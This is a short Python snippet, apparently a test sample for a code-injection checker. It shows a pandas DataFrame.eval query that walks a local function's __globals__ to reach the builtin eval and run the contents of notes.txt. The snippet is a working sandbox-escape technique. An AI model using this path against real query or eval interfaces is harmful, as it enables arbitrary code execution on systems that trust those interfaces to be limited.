# reaches: a query walks dunders of a local value
import pandas as pd
def f():
    pass
pd.DataFrame({"a": [1]}).eval("@f.__globals__['__builtins__'].eval(@text)", engine="python", local_dict={"f": f, "text": open("notes.txt").read()})
